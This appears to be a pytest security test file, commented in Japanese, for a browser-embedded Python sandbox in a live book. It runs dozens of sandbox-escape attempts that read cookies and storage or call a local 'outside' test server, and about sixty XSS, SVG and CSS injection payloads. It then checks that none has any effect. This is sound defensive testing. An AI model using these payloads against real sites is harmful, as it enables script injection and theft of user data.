"""ページの中のプログラムは、ページにも、その記憶にも、ネットワークにも届かない。出力は文字で、図も印から作り直される。

逃げようとするプログラムは、外のサーバー(テストの中の、別の番地)を呼び、ページの題や記憶を書き換えようとする。
どれのあとでも、外のサーバーには1度もつながらず、ページは元のままで、次のプログラムが動く。ChromiumとFirefoxで試す。
"""

from __future__ import annotations

import functools
import http.server
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from .conftest import QuietHandler, serve
from .firefox import FirefoxPage
from .live import BROWSERS, Window, open_asked, run, text_of

SECRET = "読者の記録"


class Outside(http.server.BaseHTTPRequestHandler):
    """つながったことを覚え、何でも許して返すサーバー。"""

    reached: list[str]

    def answer(self) -> None:
        self.reached.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"export default 1;")

    do_GET = do_POST = do_OPTIONS = do_HEAD = answer

    def log_message(self, *_: object) -> None:
        return


@pytest.fixture(scope="module")
def outside() -> Iterator[tuple[str, list[str]]]:
    reached: list[str] = []
    handler = type("Handler", (Outside,), {"reached": reached})
    with serve(handler) as address:
        yield address, reached


@pytest.fixture(scope="module", params=BROWSERS)
def page(request: pytest.FixtureRequest) -> Iterator[Window]:
    opening = open_asked(request)
    opened = next(opening)
    opened.evaluate(
        """(secret) => {
          localStorage.setItem("secret", secret);
          document.cookie = "secret=" + encodeURIComponent(secret);
          window.heard = [];
          new BroadcastChannel("book").onmessage = ({ data }) => heard.push(data);
          addEventListener("message", ({ data }) => heard.push(data));
        }""",
        SECRET,
    )
    yield opened
    next(opening, None)


def state(page: Window) -> dict[str, Any]:
    """プログラムが変えてはならないもの。"""
    found: dict[str, Any] = page.evaluate("""async () => ({
      title: document.title,
      address: location.href,
      stored: { ...localStorage },
      session: { ...sessionStorage },
      cookie: document.cookie,
      databases: (await indexedDB.databases()).map(({ name }) => name),
      caches: await caches.keys(),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      frames: document.querySelectorAll("iframe").length,
      scripts: document.scripts.length,
      elements: document.querySelectorAll("*").length,
      taken: window.taken ?? null,
      heard,
    })""")
    return {
        **found,
        "pages": page.pages if isinstance(page, FirefoxPage) else len(page.context.pages),
    }


# 名前: 逃げようとするプログラム。OUTSIDE は外のサーバーの番地になる
ESCAPES = {
    "文書を書き換える": "js.document.title = 'taken'",
    "親の窓": "js.parent.document.title = 'taken'",
    "いちばん上の窓を移す": "js.top.location.href = 'OUTSIDE/top'",
    "自分の窓を移す": "js.location.assign('OUTSIDE/self')",
    "窓を開く": "js.window.open('OUTSIDE/open')",
    "記憶に書く": "js.localStorage.setItem('secret', 'taken')",
    "記憶を読む": "print(js.localStorage.getItem('secret'))",
    "別の記憶": "js.sessionStorage.setItem('secret', 'taken')",
    "データベース": "request = js.indexedDB.open('taken')",
    "データベースの一覧": "await_(js.indexedDB.databases())",
    "キャッシュ": "await_(js.caches.open('taken'))",
    "クッキーを読む": "print(js.document.cookie)",
    "クッキーの倉庫": "await_(js.cookieStore.set('secret', 'taken'))",
    "ファイルの倉庫": "await_(js.navigator.storage.getDirectory())",
    "fetch": "await_(js.fetch('OUTSIDE/fetch'))",
    "サイトのfetch": "await_(js.fetch('SITE/index.html'))",
    "要求を作ってfetch": "await_(js.fetch(js.Request.new('OUTSIDE/request')))",
    "XMLHttpRequest": "x = js.XMLHttpRequest.new()\nx.open('GET', 'OUTSIDE/xhr', False)\nx.send()",
    "WebSocket": "js.WebSocket.new('OUTSIDE/socket'.replace('http', 'ws'))",
    "EventSource": "js.EventSource.new('OUTSIDE/events')",
    "WebTransport": "js.WebTransport.new('OUTSIDE/transport'.replace('http:', 'https:'))",
    "WebRTC": "js.RTCPeerConnection.new()",
    "合図を送る": "js.navigator.sendBeacon('OUTSIDE/beacon', 'x')",
    "画像": "image = js.Image.new()\nimage.src = 'OUTSIDE/image'",
    "フォント": "await_(js.FontFace.new('x', 'url(OUTSIDE/font)').load())",
    "importScripts": "js.importScripts('OUTSIDE/script.js')",
    "importScriptsとdata": "js.importScripts('data:text/javascript,fetch(`OUTSIDE/data`)')",
    "外のワーカー": "js.Worker.new('OUTSIDE/worker.js')",
    "blobのワーカー": "blob = js.Blob.new(['fetch(`OUTSIDE/nested`);"
    "import(`OUTSIDE/nestedimport`);new WebSocket(`OUTSIDE`.replace(`http`,`ws`))'])\n"
    "worker = js.Worker.new(js.URL.createObjectURL(blob))",
    "blobのスクリプトから読む": "blob = js.Blob.new(['import(`OUTSIDE/import`)'])\n"
    "js.importScripts(js.URL.createObjectURL(blob))",
    "共有ワーカー": "js.SharedWorker.new('OUTSIDE/shared.js')",
    "サービスワーカー": "await_(js.navigator.serviceWorker.register('OUTSIDE/service.js'))",
    "eval": "js.eval('fetch(`OUTSIDE/eval`)')",
    "Function": "js.Function.new('fetch(`OUTSIDE/function`)')()",
    "setTimeoutの文字列": "js.setTimeout('fetch(`OUTSIDE/timer`)', 0)",
    "run_js": "from pyodide.code import run_js\nrun_js('fetch(`OUTSIDE/runjs`)')",
    "pyodide.http": "from pyodide.http import open_url\nprint(open_url('OUTSIDE/openurl').read())",
    "pyfetch": "from pyodide.http import pyfetch\nawait_(pyfetch('OUTSIDE/pyfetch'))",
    "micropip": "import micropip\nawait_(micropip.install('OUTSIDE/taken-1-py3-none-any.whl'))",
    "loadPackage": "import pyodide_js\nawait_(pyodide_js.loadPackage('OUTSIDE/t-1-py3-none-any.whl'))",
    "urllib": "from urllib.request import urlopen\nurlopen('OUTSIDE/urllib', timeout=1)",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', int('OUTSIDE'.rsplit(':')[-1])), 1)",
    "subprocess": "import subprocess\nsubprocess.run(['true'])",
    "クリップボード": "await_(js.navigator.clipboard.writeText('taken'))",
    "通知": "js.Notification.new('taken')",
    "枠に嘘の知らせ": "js.postMessage('taken')\njs.self.postMessage('ready')",
    "放送": "js.BroadcastChannel.new('book').postMessage('taken')",
    "口に嘘の知らせ": "from pyodide.ffi import create_proxy, to_js\n"
    "send = js.MessagePort.prototype.postMessage\n"
    'forged = js.JSON.parse(\'{"kind": "output", "run": 1, "output": "<script>"}\')\n'
    "def lie(this, message, *rest):\n"
    "    send.call(this, forged)\n"
    "    send.call(this, message)\n"
    "js.MessagePort.prototype.postMessage = create_proxy(lie).captureThis()",
    "自分を閉じる": "js.close()",
}
PRELUDE = """
import asyncio, js
def await_(promise):
    asyncio.ensure_future(promise)
"""


def test_there_are_twenty_attempts_to_escape() -> None:
    assert len(ESCAPES) >= 20


@pytest.mark.parametrize("name", ESCAPES)
def test_a_program_cannot_escape(
    page: Window, address: str, outside: tuple[str, list[str]], name: str
) -> None:
    server, reached = outside
    before = state(page)
    attempt = ESCAPES[name].replace("OUTSIDE", server).replace("SITE", address)
    ran = run(page, PRELUDE + attempt, limit=5)
    page.wait_for_timeout(150)  # 投げただけのものが届く時間
    assert state(page) == before
    assert reached == []
    assert SECRET not in text_of(ran["outputs"])
    page.evaluate("runtime.reset()")  # 壊したものが、次のプログラムに残らない
    assert text_of(run(page, "print('次')")["outputs"]) == "次\n"


LOOSE = ("fetch", "XMLHttpRequest", "importScripts", "blobのワーカー", "urllib")


class Loose(QuietHandler):
    """枠のCSPを緩めて、外につながるようにしたサイト。検査が働くことを確かめるためだけに使う。"""

    def do_GET(self) -> None:
        if not urlsplit(self.path).path.endswith("/frame.html"):
            return super().do_GET()
        html = Path(self.translate_path(self.path)).read_text("utf-8")
        loose = html.replace("default-src 'none';", "default-src 'none'; connect-src *;")
        loose = loose.replace(" blob: ", " blob: http: ")
        assert loose.count("*") > html.count("*")
        assert loose.count("http:") > html.count("http:")
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(loose.encode())
        return None


@pytest.fixture(scope="module", params=BROWSERS)
def open_frame(request: pytest.FixtureRequest, site: Path) -> Iterator[Window]:
    with serve(functools.partial(Loose, directory=str(site))) as address:
        yield from open_asked(request, address)


@pytest.mark.parametrize("name", LOOSE)
def test_the_same_program_would_escape_from_a_frame_with_a_looser_policy(
    open_frame: Window, outside: tuple[str, list[str]], name: str
) -> None:
    server, reached = outside
    deadline = time.monotonic() + 30  # 混んだ計算機では、ワーカーが起きないことがある
    while not reached and time.monotonic() < deadline:
        ran = run(open_frame, PRELUDE + ESCAPES[name].replace("OUTSIDE", server), limit=5)
        open_frame.wait_for_timeout(1_000)
    assert reached, ran
    reached.clear()


@pytest.mark.parametrize(
    "message",
    [
        "null",
        "'ready'",
        "{ kind: 'result', run: 1, result: '{}' }",
        "{ kind: 'result', run: 'x', result: '<script>' }",
        '{ kind: \'output\', run: 1, output: \'{"kind":"html","text":"<b>"}\' }',
        "{ kind: 'output', run: 1, output: 'x'.repeat(3e6) }",
        "{ kind: '__proto__', run: 1 }",
    ],
)
def test_a_forged_message_from_another_window_is_not_heard(page: Window, message: str) -> None:
    """窓への知らせは、どこから来ても、プログラムの出力にはならない(口はページと枠だけが持つ)。"""
    outputs = page.evaluate(
        f"""async () => {{
          const outputs = [];
          const ran = runtime.run("while True: pass", {{
            cell: "嘘#1", timeLimit: 1, onOutput: (output) => outputs.push(output) }});
          for (let run = 0; run < 5; run++) window.postMessage({message}, "*");
          await ran;
          heard.length = 0;
          return outputs;
        }}"""
    )
    assert [output["kind"] for output in outputs] == ["notice"]


# ---- 出力に混ぜたもの -------------------------------------------------------------------------

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{}</svg>'
TAKE = "window.taken=1"
PAYLOADS = [
    f"<script>{TAKE}</script>",
    f'<img src="OUTSIDE/a" onerror="{TAKE}">',
    '<img src="OUTSIDE/b">',
    '<img srcset="OUTSIDE/c 1x">',
    '<iframe src="OUTSIDE/d"></iframe>',
    f'<iframe srcdoc="<script>parent.{TAKE}</script>"></iframe>',
    '<object data="OUTSIDE/e"></object>',
    '<embed src="OUTSIDE/f">',
    '<link rel="stylesheet" href="OUTSIDE/g">',
    '<link rel="prefetch" href="OUTSIDE/h">',
    '<meta http-equiv="refresh" content="0;url=OUTSIDE/i">',
    '<base href="OUTSIDE/">',
    "<style>body{background:url(OUTSIDE/j)}</style>",
    '<style>@import "OUTSIDE/k";</style>',
    f'<body onload="{TAKE}">',
    f'<details open ontoggle="{TAKE}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{TAKE}">',
    '<form action="OUTSIDE/l"><button autofocus>x</button></form>',
    f'<a href="javascript:{TAKE}">x</a>',
    '<a href="OUTSIDE/m" ping="OUTSIDE/n">x</a>',
    '<video src="OUTSIDE/o" autoplay></video>',
    '<audio src="OUTSIDE/p" autoplay></audio>',
    '<video poster="OUTSIDE/q"></video>',
    f'<marquee onstart="{TAKE}">x</marquee>',
    '<div style="background:url(OUTSIDE/r)">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<div class="cell" id="furo">x</div>',
    f"<template><script>{TAKE}</script></template>",
    f"<noscript><img src=x onerror={TAKE}></noscript>",
    f'<math><mtext><img src=x onerror="{TAKE}"></mtext></math>',
    f"<math><annotation-xml encoding='text/html'><script>{TAKE}</script></annotation-xml></math>",
    SVG.format(f"<script>{TAKE}</script>"),
    f'<svg onload="{TAKE}" xmlns="http://www.w3.org/2000/svg"></svg>',
    SVG.format(f'<g onclick="{TAKE}"><rect width="9" height="9"/></g>'),
    SVG.format('<image href="OUTSIDE/s" width="9" height="9"/>'),
    SVG.format('<use href="OUTSIDE/t#x"/>'),
    SVG.format('<use xlink:href="data:image/svg+xml,x#x"/>'),
    SVG.format(f'<a href="javascript:{TAKE}"><text y="9">x</text></a>'),
    SVG.format(f"<foreignObject><img src=x onerror={TAKE}></foreignObject>"),
    SVG.format(f'<animate attributeName="href" to="javascript:{TAKE}" onbegin="{TAKE}"/>'),
    SVG.format(f'<set attributeName="onload" to="{TAKE}"/>'),
    SVG.format('<rect width="9" height="9" fill="url(OUTSIDE/u#x)"/>'),
    SVG.format('<rect width="9" height="9" style="fill:url(OUTSIDE/v)"/>'),
    SVG.format('<rect width="9" height="9" filter="url(OUTSIDE/w)"/>'),
    SVG.format("<style>*{fill:url(OUTSIDE/x)}</style>"),
    SVG.format('<feImage href="OUTSIDE/y"/>'),
    SVG.format('<text font-family="x;background:url(OUTSIDE/z)" y="9">x</text>'),
    '<svg width="99999999" height="99999999" style="position:fixed"></svg>',
    f"<svg><title><style><img src=x onerror={TAKE}></style></title></svg>",
    f"<svg></p><style><a title='</style><img src onerror={TAKE}>'>",
    f"<svg><desc><![CDATA[</desc><script>{TAKE}</script>]]></svg>",
    f"<div><svg><g></svg><img src=x onerror={TAKE}></div>",
    "\x1b[31m赤\x1b]8;;OUTSIDE/aa\x1b\\リンク\x1b]8;;\x1b\\",
    "\u202e逆さ\u2066\u2067囲み\u2069",
    "\x00ヌル\x00<script>",
    "\u2028\u2029\ufeff行",
    "\ud83d対のない代用",
    "]]>--><!--<script>",
    "&lt;script&gt;&#x3c;script&#x3e;",
    "a\u0300" * 500,
]
ALLOWED = (
    "svg g path polygon polyline ellipse circle rect line text tspan title desc div details summary"
)


def test_there_are_fifty_payloads() -> None:
    assert len(PAYLOADS) >= 50


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_payload_in_the_output_has_no_effect(
    page: Window, outside: tuple[str, list[str]], number: int
) -> None:
    server, reached = outside
    payload = PAYLOADS[number].replace("OUTSIDE", server)
    before = state(page)
    code = (
        f"payload = {payload!a}\nprint(payload)\n"
        "class Drawn:\n    def _repr_html_(self): return payload\n"
        "    def __repr__(self): return payload\nDrawn()"
    )
    ran = run(page, code)
    printed = "".join(o["text"] for o in ran["outputs"] if o["kind"] == "stream")
    assert printed == payload.encode("utf-8", "replace").decode() + "\n"
    drawn = [output["markup"] for output in ran["outputs"] if output["kind"] == "figure"]
    found = page.evaluate(
        """async (markups) => {
          const box = document.createElement("div");
          document.querySelector("h1").after(box);
          box.append(...markups.map(live.figure));
          for (const element of box.querySelectorAll("*")) {
            element.dispatchEvent(new Event("click", { bubbles: true }));
          }
          await new Promise((done) => setTimeout(done, 50));
          const elements = [...box.querySelectorAll("*")];
          const attributes = elements.flatMap((element) => [...element.attributes]);
          box.remove();
          return {
            names: elements.map((element) => element.localName),
            attributes: attributes.map(({ name, value }) => [name, value]),
          };
        }""",
        drawn,
    )
    assert set(found["names"]) <= set(ALLOWED.split())
    for name, value in found["attributes"]:
        assert not name.startswith("on")
        assert name not in {"href", "xlink:href", "src", "srcset", "id", "filter"}
        assert not any(word in value for word in ("url", "javascript", "fixed"))
    assert state(page) == before
    assert reached == []


def test_a_figure_of_the_book_passes_whole(page: Window) -> None:
    """作り直した図は、もとの図と同じ要素と属性をもつ。"""
    code = (
        "from bibun.graph import Graph\nfrom bibun.render import draw, draw_sweep\n"
        "graph = Graph.from_edges([('x', 'y', 2.0), ('y', 'z', 3.0), ('x', 'z', 1.0)])\n"
        "path = next(iter(graph.paths('x', 'z')))\n"
    )
    for last in ("draw(graph, highlight=path)", "draw_sweep(graph, 'z')"):
        outputs = run(page, code + last)["outputs"]
        assert [output["kind"] for output in outputs] == ["figure"], outputs
        same = page.evaluate(
            """(markup) => {
              const count = (root) => [...root.querySelectorAll("*")]
                .map((e) => [e.localName, e.attributes.length - e.hasAttribute("xmlns")]);
              const plain = new DOMParser().parseFromString(markup, "text/html").body;
              return JSON.stringify(count(plain)) === JSON.stringify(count(live.figure(markup)));
            }""",
            outputs[0]["markup"],
        )
        assert same


# ---- 画面をとおして -----------------------------------------------------------------------------

# 初めのセルのエディターに書き、「実行」を押し、出てきたものを1つずつ押してから、何があるかを返す
SHOW = """async (code) => {
  const cell = document.querySelector(".live-cell");
  const until = async (ready) => {
    while (!ready()) await new Promise((done) => setTimeout(done, 5));
  };
  const press = async () => {
    cell.querySelector(".live-run").click();
    await until(() => cell.querySelector(".cm-content") && !cell.matches("[data-running]"));
  };
  if (!cell.querySelector(".cm-content")) await press();
  cell.querySelector(".cm-content").focus();
  document.execCommand("selectAll");
  document.execCommand("insertText", false, code);
  await until(() => cell.querySelector(".cm-content").textContent === code);
  await press();
  const output = cell.querySelector(".live-output");
  const elements = [...output.querySelectorAll("*")];
  for (const element of elements) {
    for (const kind of ["click", "focus", "load", "error", "toggle"]) {
      element.dispatchEvent(new Event(kind, { bubbles: true }));
    }
  }
  await new Promise((done) => setTimeout(done, 20));
  const text = (selector) => output.querySelector(selector)?.textContent ?? null;
  return {
    names: elements.map((element) => element.localName),
    attributes: elements.flatMap(({ attributes }) =>
      [...attributes].map(({ name, value }) => [name, value])),
    printed: text(".stream pre"),
    warned: text(".stderr pre"),
    failed: text(".live-error-last"),
  };
}"""
UNDO = "document.querySelector('.live-cell .live-undo').click()"
OURS = ["pre", "p", "strong"]  # 画面が出力を入れるのに使う要素


def harmless(found: dict[str, Any]) -> None:
    """許した要素と属性だけである。"""
    assert set(found["names"]) <= {*ALLOWED.split(), *OURS}
    for name, value in found["attributes"]:
        assert not name.startswith("on")
        assert name not in {"href", "xlink:href", "src", "srcset", "id", "filter"}
        assert not any(word in value for word in ("url", "javascript", "fixed"))


def test_no_payload_has_an_effect_when_the_page_shows_it(
    page: Window, outside: tuple[str, list[str]]
) -> None:
    server, reached = outside
    page.evaluate(SHOW, "print(1)")
    page.evaluate(UNDO)
    before = state(page)
    for each in PAYLOADS:
        payload = each.replace("OUTSIDE", server)
        text = payload.encode("utf-8", "replace").decode()
        shown = page.evaluate(
            SHOW,
            f"import sys; p = {payload!a}; print(p); print(p, file=sys.stderr); "
            "type('Drawn', (), {'_repr_html_': lambda self: p, '__repr__': lambda self: p})()",
        )
        harmless(shown)
        assert (shown["printed"], shown["warned"]) == (f"{text}\n", f"{text}\n")
        failed = page.evaluate(SHOW, f"raise RuntimeError({payload!a})")
        harmless(failed)
        assert failed["failed"].startswith("RuntimeError: ")
        page.evaluate(UNDO)
        assert state(page) == before, payload
        assert reached == [], payload
